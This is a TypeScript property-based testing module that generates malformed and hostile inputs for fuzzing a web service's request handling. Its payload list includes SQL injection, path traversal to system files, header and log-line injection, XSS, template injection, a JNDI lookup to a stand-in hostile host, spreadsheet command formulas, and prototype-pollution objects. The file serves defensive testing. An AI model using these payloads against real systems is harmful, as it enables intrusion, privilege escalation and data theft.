import fc from 'fast-check';
import type { HostileRequest } from '../requests/targets.ts';

/** What would be a line of its own in a log that does not escape what it is given. */
export const FORGED_LINE = '\n{"level":30,"msg":"signed in","user":"root"}';

/** Texts that programs have stumbled over. */
const nastyTexts = [
  '',
  ' ',
  "'; drop table users; --",
  "' or '1'='1",
  '\0',
  'a\0b',
  '\uD800',
  '\uDC00\uD800',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%00',
  '%2e%2e%2f',
  '%',
  '%E0%A4%A',
  '\r\nSet-Cookie: injected=1',
  '\r\n\r\nHTTP/1.1 200 OK\r\nX-Injected: 1\r\n\r\n',
  FORGED_LINE,
  '\u001b[2J\u001b]0;title\u0007',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '{{constructor.constructor("return process")()}}',
  '${jndi:ldap://hostile.example/x}',
  '{{code}}',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'toString',
  '1e400',
  '-1',
  '-0',
  'NaN',
  'Infinity',
  '9007199254740993',
  '0x10',
  '١٢٣',
  'true',
  'null',
  'undefined',
  '\u202E\u2066gnp.exe',
  '\u200B\u00AD\uFEFF',
  'ﷺ'.repeat(40),
  '👨‍👩‍👧‍👦'.repeat(20),
  'Z̷̡̢'.repeat(60),
  'İıſßŒ',
  'a@b',
  'someone@hostile.example\nBcc: victim@hostile.example',
  '=cmd|’ /C calc’!A0',
  'x'.repeat(5_000),
  '\\'.repeat(500),
  '"'.repeat(500),
  `${'a'.repeat(5_000)}!`,
  `${'1,'.repeat(2_000)}1`,
  `+${'0'.repeat(3_000)}`,
];

export const nastyText = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...nastyTexts) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 60 }) },
);

const nested = (depth: number, inner: unknown = 1): unknown => (depth === 0 ? inner : [nested(depth - 1, inner)]);

/** Anything that JSON can say instead of what is expected. */
export const nastyValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: nastyText },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 4 }) },
  {
    weight: 3,
    arbitrary: fc.constantFrom<unknown>(
      null,
      true,
      false,
      0,
      -1,
      0.1,
      1e308,
      -1e308,
      2 ** 31,
      2 ** 53,
      [],
      {},
      [null],
      [[]],
      nested(30),
      { length: 1e9 },
      { toString: 'x', valueOf: 'x', toJSON: 'x' },
      JSON.parse('{"then":"x"}'),
      { constructor: { prototype: { isAdmin: true } } },
      JSON.parse('{"__proto__":{"isAdmin":true}}'),
      { $ne: null },
      { $gt: '' },
      Array.from({ length: 300 }, (_, index) => index),
      Object.fromEntries(Array.from({ length: 300 }, (_, index) => [`field${index}`, index])),
      '2024-02-30',
      '0000-00-00',
      '99-99',
      // Not the visitors’ card, which is searched for: as a name it is stored like any other.
      '5555 5555 5555 4444',
    ),
  },
);

/** Makes one thing about a good request bad. */
export type Mutation = (request: HostileRequest) => HostileRequest;

/** With how often it is chosen. */
export interface Weighted {
  weight: number;
  arbitrary: fc.Arbitrary<Mutation>;
}
